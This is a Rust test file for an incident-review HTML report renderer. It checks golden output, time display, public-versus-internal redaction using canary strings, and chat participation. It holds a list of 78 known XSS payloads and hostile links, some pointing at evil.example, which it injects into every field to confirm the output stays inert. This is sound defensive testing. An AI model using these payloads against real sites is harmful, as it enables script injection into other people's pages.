use super::*;
use crate::document::load;
use crate::model::{
    ActionItem, ChangeKind, ContributingFactor, DismissedFinding, EventKind, Evidence,
    ImpactWindow, IncidentRole, Interview, PromptNote, Quote, Redaction, ReviewId, ReviewTemplate,
    TimelineSource,
};
use crate::testing::{at, message, transcripts};
use crate::time::BundledZones;
use crate::validate::validate_review;
use chrono::{DateTime, Utc};
use html5ever::tendril::TendrilSink;
use markup5ever_rcdom::{Handle, NodeData, RcDom};

const V1: &str = include_str!("../../../tests/fixtures/review-v1.json");

fn fixture() -> Review {
    load(V1).expect("the v1 fixture loads")
}

fn options(audience: Audience) -> RenderOptions {
    RenderOptions {
        audience,
        // After the fixture's action was due, so the golden shows an overdue item.
        generated_at: DateTime::parse_from_rfc3339("2019-12-10T09:00:00Z")
            .unwrap()
            .with_timezone(&Utc),
    }
}

fn render(review: &Review, audience: Audience) -> String {
    render_html_report(review, &BundledZones, &options(audience))
}

/// What a rendering of `review` for `audience` shows and carries.
fn rendered(review: &Review, audience: Audience) -> Review {
    match audience {
        Audience::Internal => review.clone(),
        Audience::Public => public_view(review),
    }
}

use crate::testing::assert_golden;

const AUDIENCES: [Audience; 2] = [Audience::Internal, Audience::Public];

// --- goldens -------------------------------------------------------------------------

#[test]
fn fixture_report_internal_matches_golden() {
    assert_golden(
        "report-internal.html",
        &render(&fixture(), Audience::Internal),
    );
}

#[test]
fn seed_incident_reports_match_golden() {
    let seed = crate::testing::seed_incident();
    assert_golden(
        "seed-report-internal.html",
        &render(&seed, Audience::Internal),
    );
    assert_golden("seed-report-public.html", &render(&seed, Audience::Public));
}

#[test]
fn inexact_times_are_written_as_the_record_gives_them() {
    let review: Review = load(include_str!("../../../tests/fixtures/review-v4.json")).unwrap();
    let html = render(&review, Audience::Internal);
    for shown in [
        "~<time datetime=\"2019-11-06T01:50:00-08:00\">01:50 PST</time>",
        "before <time datetime=\"2019-11-06T02:00:00-08:00\">02:00 PST</time>",
        "05:12 PST</time>\u{2013}<time datetime=\"2019-11-06T05:47:00-08:00\">05:47 PST</time>",
        "<span class=\"muted\">time not known</span>",
        "(approximate time)",
        "(at least 7 h 25 min)",
    ] {
        assert!(html.contains(shown), "{shown}");
    }
    let markdown = crate::render::markdown::render_markdown(
        &review,
        &BundledZones,
        &options(Audience::Internal),
    );
    for shown in [
            "~2019-11-06 01:50 PST (UTC-08:00)",
            "before 2019-11-06 02:00 PST (UTC-08:00)",
            "2019-11-06 05:12 PST (UTC-08:00)\u{2013}05:47 PST",
            "2019-11-06, time not known",
            "**Incident:** before 2019-11-06 02:20 PST (UTC-08:00) to 09:45 PST (UTC-08:00) (at least 7 h 25 min)",
        ] {
            assert!(markdown.contains(shown), "{shown}\n{markdown}");
        }
}

#[test]
fn fixture_report_public_matches_golden() {
    assert_golden("report-public.html", &render(&fixture(), Audience::Public));
}

#[test]
fn fixture_reports_say_what_they_are() {
    let internal = render(&fixture(), Audience::Internal);
    let public = render(&fixture(), Audience::Public);
    assert!(internal.contains("Sam Reviewer"));
    assert!(internal.contains("Avery On-Call"));
    assert!(internal.contains("<span class=\"badge overdue\">Overdue</span>"));
    assert!(internal.contains("Internal version"));
    assert!(public.contains("This is the public version of the review."));
    assert!(!public.contains("Sam Reviewer"));
    assert!(!public.contains("Avery"));
    assert!(public.contains("On-call engineer"));
    assert!(public.contains("Responder"));
    assert!(!public.contains("Responders suspect the cloud provider"));
    // Both say how many interviews were held, even though the public one shows none.
    for html in [&internal, &public] {
        assert!(html.contains("1 interview was held"));
        assert!(html.contains("2019-11-06 02:20 PST (UTC-08:00)"));
    }
}

#[test]
fn the_embedded_review_loads_back_to_exactly_what_was_rendered() {
    let review = fixture();
    for audience in AUDIENCES {
        let html = render(&review, audience);
        let expected = rendered(&review, audience);
        let json = extract_embedded_review(&html).expect("a data block");
        assert_eq!(json, encode(&expected));
        assert_eq!(load::<Review>(&json).unwrap(), expected);
    }
}

#[test]
fn an_empty_review_renders_with_placeholders() {
    let review = Review::new(
        ReviewId::new("empty"),
        ReviewTemplate::LightReview,
        DateTime::<Utc>::UNIX_EPOCH,
    );
    for audience in AUDIENCES {
        let html = render(&review, audience);
        assert!(html.contains("<h1>Untitled review</h1>"));
        assert!(html.contains("No timeline events recorded yet."));
        assert!(html.contains("No interviews were held"));
        assert_eq!(
            load::<Review>(&extract_embedded_review(&html).unwrap()).unwrap(),
            rendered(&review, audience)
        );
    }
}

#[test]
fn an_unknown_zone_is_shown_as_utc_and_said_so() {
    let mut review = fixture();
    review.incident.time_zone = "Mars/Olympus".to_owned();
    let html = render(&review, Audience::Internal);
    assert!(html.contains("the review's zone “Mars/Olympus” is not known here"));
    assert!(html.contains("2019-11-06 10:20 (UTC)"));
}

#[test]
fn times_past_midnight_carry_their_date() {
    let mut review = fixture();
    review.incident.start = Some(at("2019-11-06T23:50:00-08:00"));
    review.incident.end = Some(at("2019-11-07T01:00:00-08:00"));
    review.impact.windows.clear();
    review.timeline[0].at = Some(at("2019-11-06T23:55:00-08:00"));
    review.timeline[0].end = Some(at("2019-11-07T00:40:00-08:00"));
    let html = render(&review, Audience::Internal);
    // The event's end, the person's involvement and the metrics name the new day.
    assert!(html.contains(
        "until <time datetime=\"2019-11-07T00:40:00-08:00\">2019-11-07 00:40 PST</time> (45 min)"
    ));
    assert!(html.contains(
        " PST</time> → <time datetime=\"2019-11-07T00:40:00-08:00\">2019-11-07 00:40 PST</time>"
    ));
    // On the incident's first day the date goes without saying.
    assert!(html.contains("<time datetime=\"2019-11-06T23:50:00-08:00\">23:50 PST</time>"));
}

// --- parsing with a real HTML parser -------------------------------------------------

struct Element {
    name: String,
    attrs: Vec<(String, String)>,
    /// The text of its direct text children (what a script, style or title holds).
    text: String,
    children: Vec<String>,
}

fn parse(html: &str) -> Handle {
    html5ever::parse_document(RcDom::default(), Default::default())
        .one(html)
        .document
}

fn collect(node: &Handle, out: &mut Vec<Element>) {
    if let NodeData::Element { name, attrs, .. } = &node.data {
        let children = node.children.borrow();
        out.push(Element {
            name: name.local.to_string(),
            attrs: attrs
                .borrow()
                .iter()
                .map(|a| {
                    let prefix = a.name.prefix.as_ref().map(|p| format!("{p}:"));
                    (
                        format!("{}{}", prefix.unwrap_or_default(), a.name.local),
                        a.value.to_string(),
                    )
                })
                .collect(),
            text: children
                .iter()
                .filter_map(|c| match &c.data {
                    NodeData::Text { contents } => Some(contents.borrow().to_string()),
                    _ => None,
                })
                .collect(),
            children: children
                .iter()
                .filter_map(|c| match &c.data {
                    NodeData::Element { name, attrs, .. } => {
                        let attrs: Vec<String> = attrs
                            .borrow()
                            .iter()
                            .map(|a| format!("{}={}", a.name.local, a.value))
                            .collect();
                        Some(format!("{}[{}]", name.local, attrs.join(",")))
                    }
                    _ => None,
                })
                .collect(),
        });
    }
    for child in node.children.borrow().iter() {
        collect(child, out);
    }
}

/// Every element the report may contain: its own HTML, and the chart's SVG.
const ALLOWED_ELEMENTS: [&str; 44] = [
    "html",
    "head",
    "body",
    "meta",
    "title",
    "style",
    "script",
    "main",
    "header",
    "footer",
    "section",
    "article",
    "aside",
    "figure",
    "figcaption",
    "blockquote",
    "h1",
    "h2",
    "h3",
    "p",
    "div",
    "span",
    "strong",
    "em",
    "br",
    "ul",
    "li",
    "dl",
    "dt",
    "dd",
    "table",
    "caption",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "time",
    "svg",
    "g",
    "path",
    "rect",
    "text",
];
const ALLOWED_SVG_EXTRA: [&str; 1] = ["desc"];

fn is_safe_url(value: &str) -> bool {
    let value = value.trim().to_ascii_lowercase();
    ["http://", "https://", "mailto:"]
        .iter()
        .any(|scheme| value.starts_with(scheme))
}

/// Everything the report promises about its markup, checked on the parsed document.
fn assert_inert(html: &str, rendered: &Review, context: &str) {
    let mut elements = Vec::new();
    collect(&parse(html), &mut elements);

    let scripts: Vec<&Element> = elements.iter().filter(|e| e.name == "script").collect();
    assert_eq!(scripts.len(), 1, "{context}: exactly one script element");
    let script = scripts[0];
    assert_eq!(
        script.attrs,
        [
            ("type".to_owned(), "application/json".to_owned()),
            ("id".to_owned(), REVIEW_DATA_ID.to_owned())
        ],
        "{context}"
    );
    assert!(!script.text.contains('<'), "{context}");
    assert_eq!(
        unescape_json_block(&script.text),
        encode(rendered),
        "{context}: the data block carries exactly the rendered review"
    );
    assert_eq!(extract_embedded_review(html).unwrap(), encode(rendered));

    for element in &elements {
        assert!(
            ALLOWED_ELEMENTS.contains(&element.name.as_str())
                || ALLOWED_SVG_EXTRA.contains(&element.name.as_str()),
            "{context}: unexpected <{}>",
            element.name
        );
        for (name, value) in &element.attrs {
            let lower = name.to_ascii_lowercase();
            assert!(
                !lower.starts_with("on"),
                "{context}: event handler {name}={value:?} on <{}>",
                element.name
            );
            assert!(
                ![
                    "src",
                    "action",
                    "formaction",
                    "srcdoc",
                    "style",
                    "srcset",
                    "background"
                ]
                .contains(&lower.as_str()),
                "{context}: {name} on <{}>",
                element.name
            );
            if lower == "href" || lower.ends_with(":href") {
                assert!(is_safe_url(value), "{context}: href {value:?}");
            }
        }
    }
    for forbidden in [
        "iframe",
        "object",
        "embed",
        "base",
        "link",
        "form",
        "img",
        "image",
        "math",
        "input",
        "button",
        "frame",
        "foreignObject",
        "template",
        "noscript",
        "textarea",
        "xmp",
    ] {
        assert!(
            !elements
                .iter()
                .any(|e| e.name.eq_ignore_ascii_case(forbidden)),
            "{context}: <{forbidden}>"
        );
    }

    let head = elements.iter().find(|e| e.name == "head").unwrap();
    assert_eq!(head.children[0], "meta[charset=utf-8]", "{context}");
    assert_eq!(
        head.children[1],
        format!("meta[http-equiv=Content-Security-Policy,content={CSP}]"),
        "{context}: the CSP comes right after the charset"
    );
    let http_equiv: Vec<&Element> = elements
        .iter()
        .filter(|e| e.attrs.iter().any(|(n, _)| n == "http-equiv"))
        .collect();
    assert_eq!(http_equiv.len(), 1, "{context}: only the CSP meta");

    let styles: Vec<&Element> = elements.iter().filter(|e| e.name == "style").collect();
    assert_eq!(styles.len(), 1, "{context}");
    assert_eq!(styles[0].text, format!("\n{STYLE}"), "{context}");

    // The title is the review's text, shown as text, minus what reports never show.
    let shown_title: String = rendered
        .display_title()
        .chars()
        .filter(|c| !is_unshown(*c))
        .collect();
    let h1 = elements.iter().find(|e| e.name == "h1").unwrap();
    assert_eq!(h1.text, shown_title, "{context}");
    let title = elements.iter().find(|e| e.name == "title").unwrap();
    assert!(title.text.starts_with(&shown_title), "{context}");
}

#[test]
fn the_fixture_reports_are_inert() {
    for audience in AUDIENCES {
        let review = fixture();
        assert_inert(
            &render(&review, audience),
            &rendered(&review, audience),
            &format!("fixture {audience:?}"),
        );
    }
}

/// Known XSS payloads and parser tricks.
const PAYLOADS: [&str; 78] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "</script><script>alert(1)</script>",
        "</SCRIPT ><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<img src=x oNeRrOr=alert`1`>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<SVG ONLOAD=alert(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">x</div>",
        "<a onclick=alert(1)>x</a>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "` onmouseover=alert(1) `",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java&#x09;script:alert(1)",
        "java&#09;script:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "\u{1}javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"java&#x09;script:alert(1)\">click</a>",
        "<a href=\" data:text/html,x\">click</a>",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "-->",
        "<!--",
        "<!-- <script>alert(1)</script> -->",
        "--!><script>alert(1)</script>",
        "]]>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"javascript:alert(1)\">",
        "<object data=\"javascript:alert(1)\">",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<div style=\"width: expression(alert(1))\">",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<form action=\"https://evil.example\"><button formaction=javascript:alert(1)>x</button></form>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<plaintext>",
        "<xmp><script>alert(1)</script></xmp>",
        "＜script＞alert(1)＜/script＞",
        "\u{202E}gnp.exe\u{202C} and \u{2066}isolate",
        "a\0b<scr\0ipt>alert(1)</script>",
        "\u{2028}\u{2029}</script>",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\\\u003c/script>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &amp;&quot;&#39;",
        "\u{FEFF}\u{FFFE}\u{FFFF}\u{7F}\u{9B}<script>",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    ];

/// Valid http(s) links (validation accepts them) that try to break out of an attribute.
const HOSTILE_LINKS: [&str; 6] = [
    "https://x/\"onmouseover=\"alert(1)",
    "https://x/'><script>alert(1)</script>",
    "http://x/<svg/onload=alert(1)>",
    "HTTPS://x/</script><script>alert(1)</script>",
    "https://x/?a=1&b=<b>&quot;",
    "https://javascript:alert(1)@x/",
];

/// A review with `payload` in every text field, public and internal entries of every
/// kind, hostile links, and a redaction whose replacement is the payload too.
fn hostile_review(payload: &str, n: usize) -> Review {
    let p = |what: &str| format!("{payload}{what}");
    let ident = |what: &str| EntityId::new(format!("{payload}#{what}"));
    let link = |k: usize| Some(HOSTILE_LINKS[(n + k) % HOSTILE_LINKS.len()].to_owned());
    let mut review = Review::new(
        ReviewId::new(p("review")),
        ReviewTemplate::FullAnalysis,
        DateTime::<Utc>::UNIX_EPOCH,
    );
    review.title = payload.to_owned();
    review.severity = p("");
    review.services = vec![p("service")];
    review.tags = vec![p("tag")];
    review.incident.start = Some(at("2019-11-06T02:20:00-08:00"));
    review.incident.end = Some(at("2019-11-06T09:45:00-08:00"));
    review.incident.time_zone = "America/Los_Angeles".to_owned();
    review.summary = p(" zz-term summary");
    review.impact.statement = p("impact");
    review.impact.windows = vec![ImpactWindow {
        id: ident("window"),
        start: Some(at("2019-11-06T02:20:00-08:00")),
        end: Some(at("2019-11-06T02:40:00-08:00")),
        affected: p("affected"),
        magnitude: p("magnitude"),
    }];
    review.analyst.name = p("analyst");
    review.trigger.class = TriggerClass::SelfChangeCaused;
    review.trigger.change_kind = Some(ChangeKind::Deploy);
    review.trigger.description = p("trigger");
    review.people = vec![
        Person {
            id: ident("p1"),
            name: p("name one"),
            kind: crate::model::ParticipantKind::Person,
            private: false,
            roles: vec![IncidentRole::OnCall],
            team: p("team"),
            tenure_months: Some(3),
            on_call_for: p("on call"),
            time_zone: Some("Europe/Berlin".to_owned()),
            notes: p("notes"),
        },
        Person {
            id: ident("p2"),
            name: payload.to_owned(),
            notes: p("notes"),
            ..Person::default()
        },
    ];
    let event = |key: &str, at_text: &str, visibility: Visibility, k: usize| TimelineEvent {
        id: ident(key),
        at: Some(at(at_text)),
        time_known: crate::model::TimeKnown::Exact,
        end: None,
        text: p(key),
        kind: EventKind::ALL[k % EventKind::ALL.len()],
        actor: Some(ident(if k.is_multiple_of(2) { "p1" } else { "p2" })),
        source: TimelineSource {
            kind: crate::model::SourceKind::ALL[k % crate::model::SourceKind::ALL.len()],
            link: link(k),
            transcript: None,
        },
        tags: vec![p("tag"), "page".to_owned()],
        key: k.is_multiple_of(2),
        visibility,
    };
    review.timeline = vec![
        event("e1", "2019-11-06T02:22:00-08:00", Visibility::Public, 0),
        event("e2", "2019-11-06T03:00:00-08:00", Visibility::Internal, 1),
        event("e3", "2019-11-06T08:10:00-08:00", Visibility::Public, 2),
        event("e4", "2019-11-06T09:40:00-08:00", Visibility::Internal, 3),
    ];
    review.timeline[0].end = Some(at("2019-11-06T02:50:00-08:00"));
    let hypothesis = |key: &str, visibility: Visibility| Hypothesis {
        id: ident(key),
        statement: p(key),
        raised_by: Some(ident("p1")),
        raised_at: None,
        raised_in_event: Some(ident("e2")),
        disproof: p("disproof"),
        evidence: vec![
            Evidence {
                id: ident(&format!("{key}-ev1")),
                stance: EvidenceStance::For,
                text: p("evidence for"),
                event: Some(ident("e2")),
            },
            Evidence {
                id: ident(&format!("{key}-ev2")),
                stance: EvidenceStance::Against,
                text: p("evidence against"),
                event: Some(ident("e3")),
            },
        ],
        status: HypothesisStatus::Falsified,
        status_changed_at: Some(at("2019-11-06T08:10:00-08:00")),
        visibility,
    };
    review.hypotheses = vec![
        hypothesis("h1", Visibility::Public),
        hypothesis("h2", Visibility::Internal),
    ];
    let factor = |key: &str, visibility: Visibility, k: usize| ContributingFactor {
        id: ident(key),
        description: p(key),
        category: FactorCategory::ALL[k % FactorCategory::ALL.len()],
        events: vec![ident("e1"), ident("e2")],
        tags: vec![p("tag")],
        visibility,
    };
    review.factors = vec![
        factor("f1", Visibility::Public, n),
        factor("f2", Visibility::Internal, n + 1),
    ];
    let notes = |key: &str| {
        vec![
            Note {
                id: ident(&format!("{key}-public")),
                text: p(key),
                events: vec![ident("e2"), ident("e3")],
                visibility: Visibility::Public,
            },
            Note {
                id: ident(&format!("{key}-internal")),
                text: p(key),
                events: vec![ident("e1")],
                visibility: Visibility::Internal,
            },
        ]
    };
    review.learnings.went_well = notes("well");
    review.learnings.got_lucky = notes("lucky");
    review.learnings.difficult = notes("difficult");
    review.interviews = vec![Interview {
        id: ident("i1"),
        participant: Some(ident("p2")),
        date: None,
        interviewer: p("interviewer"),
        prompt_notes: vec![PromptNote {
            prompt: p("prompt"),
            note: p("note"),
        }],
        quotes: vec![
            Quote {
                id: ident("q1"),
                text: p("public quote"),
                visibility: Visibility::Public,
            },
            Quote {
                id: ident("q2"),
                text: p("internal quote"),
                visibility: Visibility::Internal,
            },
        ],
        notes: p("interview notes"),
    }];
    review.actions = vec![
        ActionItem {
            id: ident("a1"),
            description: p("action"),
            owner: p("owner"),
            due: chrono::NaiveDate::from_ymd_opt(2019, 12, 1),
            kind: crate::model::ActionKind::Detect,
            status: crate::model::ActionStatus::Open,
            tracker_link: link(4),
            factors: vec![ident("f1"), ident("f2")],
        },
        ActionItem {
            id: ident("a2"),
            description: p("action two"),
            tracker_link: link(5),
            ..ActionItem::default()
        },
    ];
    review.deep_analysis.notes = p("deep notes");
    review.redactions = vec![Redaction {
        term: "zz-term".to_owned(),
        replacement: payload.to_owned(),
    }];
    review.dismissed_findings = vec![DismissedFinding {
        field: p("field"),
        phrase: p("phrase"),
    }];
    review
}

#[test]
fn hostile_text_in_every_field_stays_text() {
    for (n, payload) in PAYLOADS.iter().enumerate() {
        let review = hostile_review(payload, n);
        assert_eq!(validate_review(&review), Vec::new(), "{payload:?}");
        for audience in AUDIENCES {
            let expected = rendered(&review, audience);
            assert_eq!(validate_review(&expected), Vec::new());
            let html = render(&review, audience);
            assert_inert(&html, &expected, &format!("{payload:?} {audience:?}"));
            assert_eq!(
                load::<Review>(&extract_embedded_review(&html).unwrap()).unwrap(),
                expected,
                "{payload:?} {audience:?}"
            );
        }
    }
}

// --- canaries --------------------------------------------------------------------------

/// Strings planted in every place the public report must not show.
const CANARIES: [&str; 29] = [
    "canary-internal-event",
    "canary-internal-event-tag",
    "canary-internal-hypothesis",
    "canary-internal-disproof",
    "canary-internal-evidence",
    "canary-internal-factor",
    "canary-internal-factor-tag",
    "canary-internal-went-well",
    "canary-internal-lucky",
    "canary-internal-difficult",
    "canary-interview-notes",
    "canary-interview-prompt",
    "canary-interview-prompt-note",
    "canary-internal-quote",
    "canary-interviewer",
    "Quillon",
    "Marchetti",
    "Odalys",
    "Brightwater",
    "canary-person-notes",
    "canary-analyst",
    "canary-redacted-host",
    "canary-redacted-codename",
    "https://tracker.example.com/canary-tracker",
    "https://chat.example.com/canary-source",
    "canary-dismissed-phrase",
    "canary-dismissed-field",
    "canary-deep-notes",
    "canary-quiet-person",
];

fn canary_review() -> Review {
    let mut review = fixture();
    review.analyst.name = "canary-analyst".into();
    review.people[0].name = "Quillon Marchetti".into();
    review.people[0].notes = "canary-person-notes".into();
    review.people[1].name = "Odalys Brightwater".into();
    review.people.push(Person {
        id: EntityId::new("p3"),
        name: "canary-quiet-person".into(),
        ..Person::default()
    });
    // Public text that names people and uses redacted terms: all must be rewritten.
    review.summary = "Quillon Marchetti paged ODALYS BRIGHTWATER about \
                          Canary-Redacted-Host; Odalys saw canary-redacted-codename and \
                          told canary-quiet-person."
        .into();
    review.timeline[0].text = "Marchetti restarted canary-redacted-host.".into();
    review.timeline[0].source.link = Some("https://chat.example.com/canary-source".into());
    review.timeline[1].text = "canary-internal-event".into();
    review.timeline[1].tags = vec!["canary-internal-event-tag".into()];
    review.timeline[1].source.link = Some("https://chat.example.com/canary-source".into());
    review.hypotheses.push(Hypothesis {
        id: EntityId::new("h2"),
        statement: "canary-internal-hypothesis".into(),
        disproof: "canary-internal-disproof".into(),
        evidence: vec![Evidence {
            id: EntityId::new("ev3"),
            text: "canary-internal-evidence".into(),
            ..Evidence::default()
        }],
        ..Hypothesis::default()
    });
    review.factors[1].description = "canary-internal-factor".into();
    review.factors[1].tags = vec!["canary-internal-factor-tag".into()];
    let internal_note = |key: &str, text: &str| Note {
        id: EntityId::new(key),
        text: text.into(),
        events: vec![],
        visibility: Visibility::Internal,
    };
    review
        .learnings
        .went_well
        .push(internal_note("l4", "canary-internal-went-well"));
    review
        .learnings
        .got_lucky
        .push(internal_note("l5", "canary-internal-lucky"));
    review.learnings.difficult[0].text = "canary-internal-difficult".into();
    let interview = &mut review.interviews[0];
    interview.notes = "canary-interview-notes".into();
    interview.interviewer = "canary-interviewer".into();
    interview.prompt_notes = vec![PromptNote {
        prompt: "canary-interview-prompt".into(),
        note: "canary-interview-prompt-note".into(),
    }];
    interview.quotes[0].text = "canary-internal-quote".into();
    interview.quotes.push(Quote {
        id: EntityId::new("q2"),
        text: "Odalys said the graphs looked normal.".into(),
        visibility: Visibility::Public,
    });
    review.actions[0].tracker_link = Some("https://tracker.example.com/canary-tracker".into());
    review.actions[0].owner = "Quillon Marchetti".into();
    review.deep_analysis.notes = "canary-deep-notes".into();
    review.redactions = vec![
        Redaction {
            term: "canary-redacted-host".into(),
            replacement: "an ingest host".into(),
        },
        Redaction {
            term: "canary-redacted-codename".into(),
            replacement: "the new pipeline".into(),
        },
    ];
    review.dismissed_findings = vec![DismissedFinding {
        field: "canary-dismissed-field".into(),
        phrase: "canary-dismissed-phrase".into(),
    }];
    assert_eq!(validate_review(&review), Vec::new());
    review
}

#[test]
fn no_canary_reaches_the_public_report() {
    let review = canary_review();
    let internal = render(&review, Audience::Internal).to_lowercase();
    let public_html = render(&review, Audience::Public);
    let public = public_html.to_lowercase();
    let embedded = extract_embedded_review(&public_html)
        .unwrap()
        .to_lowercase();
    for canary in CANARIES {
        let canary = canary.to_lowercase();
        assert!(
            internal.contains(&canary),
            "the internal report has {canary}"
        );
        assert!(
            !public.contains(&canary),
            "the public report leaks {canary}"
        );
        assert!(
            !embedded.contains(&canary),
            "the public data leaks {canary}"
        );
    }
    // What is public is still there, rewritten.
    assert!(public_html.contains(
        "On-call engineer paged Responder about an ingest host; Responder saw the new \
             pipeline and told Engineer A."
    ));
    assert!(public_html.contains("On-call engineer restarted an ingest host."));
    assert!(public_html.contains("Responder said the graphs looked normal."));
    assert!(prepublish_check_is_clean(&review));
}

// --- participation ---------------------------------------------------------------------

fn with_chat(review: &Review, chat: &ReviewTranscripts, audience: Audience) -> String {
    render_html_report_with_transcripts(review, Some(chat), &BundledZones, &options(audience))
}

/// The fixture's night in chat: an alert, Avery under a chat handle, Jordan, an author
/// nobody linked, someone who only joined, and one message with distinctive words.
fn fixture_chat() -> ReviewTranscripts {
    use crate::import::MessageKind::{Alert, Join, Message};
    let pst = |clock: &str| format!("2019-11-06T{clock}:00-08:00");
    let mut canary = message(&pst("02:40"), "avery.oncall", Message);
    canary.text = "canary-chat-text restarting ingest-7".to_owned();
    transcripts(
        vec![vec![
            message(&pst("02:22"), "pagerbot", Alert),
            message(&pst("02:23"), "avery.oncall", Join),
            message(&pst("02:24"), "avery.oncall", Message),
            message(&pst("02:30"), "Zephyrine Quillfeather", Message),
            canary,
            message(&pst("03:10"), "jordan", Message),
            message(&pst("03:12"), "silent-sam", Join),
        ]],
        &[("avery.oncall", "p1"), ("jordan", "p2")],
    )
}

#[test]
fn the_internal_report_shows_participation_after_people_without_message_text() {
    let review = fixture();
    let html = with_chat(&review, &fixture_chat(), Audience::Internal);
    assert_inert(&html, &review, "internal with chat");
    let people = html.find("<h2>People and response</h2>").unwrap();
    let section = html.find("<h2>Participation</h2>").unwrap();
    let hypotheses = html.find("<h2>Hypotheses</h2>").unwrap();
    assert!(people < section && section < hypotheses);
    let part = &html[section..hypotheses];
    assert!(part.contains("4 messages from 3 people, and 1 alert"));
    assert!(part.contains("aria-labelledby=\"report-participation-title"));
    assert!(part.contains("aria-labelledby=\"report-participation-heatmap-title"));
    assert!(part.contains("<strong>Avery On-Call</strong>"));
    assert!(part.contains("In chat as avery.oncall"));
    assert!(part.contains("<strong>Zephyrine Quillfeather</strong>"));
    assert!(part.contains("Chat name, not linked to a person"));
    assert!(part
        .contains("<strong>silent-sam</strong> <span class=\"badge status\">Only joined</span>"));
    assert!(
        part.contains("<td class=\"num\">50%</td>"),
        "Avery wrote 2 of 4"
    );
    assert!(part.contains("By team: Platform 2 messages (1 person);"));
    assert!(part.contains("no team recorded 1 message (2 people)"));
    assert!(part.contains(
        "<td class=\"when\"><time datetime=\"2019-11-06T02:40:00-08:00\">02:40 PST</time></td>"
    ));
    // One quiet gap, 02:40–03:10; the alert came before it.
    assert!(part.contains(
        "<tr><td class=\"when\"><time datetime=\"2019-11-06T02:40:00-08:00\">02:40 PST</time></td>\
             <td class=\"when\"><time datetime=\"2019-11-06T03:10:00-08:00\">03:10 PST</time></td>\
             <td class=\"nowrap\">30 min</td><td class=\"num\">0</td></tr>"
    ));
    // Never what anyone wrote.
    assert!(!html.contains("canary-chat-text"));
    assert!(!html.contains("said-by"));
}

/// Writes the fixture's internal report with chat for a person to look at:
/// `cargo test -p debrief-core --lib render::html -- --ignored`, then open
/// `$TMPDIR/report-participation.html`.
#[test]
#[ignore]
fn write_report_with_chat_for_eyeballing() {
    let html = with_chat(&fixture(), &fixture_chat(), Audience::Internal);
    std::fs::write(std::env::temp_dir().join("report-participation.html"), html).unwrap();
}

#[test]
fn the_public_report_ignores_transcripts_entirely() {
    let review = fixture();
    let chat = fixture_chat();
    let public = with_chat(&review, &chat, Audience::Public);
    assert_eq!(public, render(&review, Audience::Public));
    for secret in [
        "Zephyrine",
        "Quillfeather",
        "canary-chat-text",
        "silent-sam",
        "Participation",
    ] {
        assert!(!public.contains(secret), "{secret}");
    }
}

#[test]
fn no_messages_no_section() {
    let review = fixture();
    let empty = transcripts(vec![Vec::new()], &[]);
    assert_eq!(
        with_chat(&review, &empty, Audience::Internal),
        render(&review, Audience::Internal)
    );
    assert_eq!(
        render_html_report_with_transcripts(
            &review,
            None,
            &BundledZones,
            &options(Audience::Internal)
        ),
        render(&review, Audience::Internal)
    );
}

#[test]
fn hostile_chat_names_stay_text_in_the_report() {
    let review = fixture();
    let pst = |minute: usize| format!("2019-11-06T03:{:02}:00-08:00", minute % 60);
    let chat = transcripts(
        vec![PAYLOADS
            .iter()
            .enumerate()
            .map(|(i, payload)| {
                let kind = [
                    crate::import::MessageKind::Message,
                    crate::import::MessageKind::Join,
                    crate::import::MessageKind::Alert,
                ][i % 3];
                message(&pst(i), payload, kind)
            })
            .collect()],
        &[(PAYLOADS[0], "p1")],
    );
    let html = with_chat(&review, &chat, Audience::Internal);
    assert_inert(&html, &review, "hostile chat names");
    assert!(html.contains("<h2>Participation</h2>"));
    assert!(!html.contains("said-by"));
}

fn prepublish_check_is_clean(review: &Review) -> bool {
    let check = super::super::public::prepublish_check(review);
    check.flagged.is_empty()
}
